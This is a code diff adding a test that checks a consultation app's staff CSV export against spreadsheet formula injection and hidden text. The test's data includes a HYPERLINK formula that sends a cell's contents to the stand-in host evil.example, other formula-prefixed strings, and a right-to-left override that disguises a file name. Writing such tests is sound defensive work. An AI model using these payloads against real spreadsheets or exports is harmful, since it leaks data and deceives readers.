@@ -12,7 +12,7 @@ from consultations import services
 from consultations.db import db
 from consultations.models import Answer, Consultation, QuestionKind
 from consultations.staff_models import AuditEntry, Role, Tag
-from tests.helpers import make_consultation, now
+from tests.helpers import assert_safe_in_any_spreadsheet, make_consultation, now
 from tests.staff.support import make_user, post, sign_in, text_of
 
 KEY = b"test-pseudonym-key"
@@ -215,3 +215,26 @@ def test_the_front_page_lists_drafts_only_for_writers_and_youth_workers(app):
         Role.FORUM_MEMBER: (False, False),
         Role.SAFEGUARDING_LEAD: (False, False),
     }
+
+
+HOSTILE_ANSWERS = [
+    'ok;=HYPERLINK("http://evil.example/?"&A1, "click")',
+    "fine, +SUM(A1:A9)",
+    "line one\n-2+3",
+    "  =1+1",
+    "\u202eevil.exe\u2066 reversed",
+]
+
+
+def test_a_csv_export_runs_no_formula_in_any_spreadsheet_and_hides_nothing(client):
+    sign_in(client, make_user(Role.OFFICER))
+    c = make_consultation()
+    for n, text in enumerate(HOSTILE_ANSWERS):
+        _answer(c, f"h{n}", band=None, option=0, text=text)
+    exported = client.get(f"/staff/consultations/{c.id}/export.csv").get_data(as_text=True)
+    assert_safe_in_any_spreadsheet(exported)
+    answers = {r["answer"] for r in csv.DictReader(io.StringIO(exported))}
+    # Officers still read what was written: a mark before each formula, the overrides gone.
+    assert 'ok;\'=HYPERLINK("http://evil.example/?"&A1, "click")' in answers
+    assert "fine,' +SUM(A1:A9)" in answers and "line one\n'-2+3" in answers
+    assert "'=1+1" in answers and "evil.exe reversed" in answers
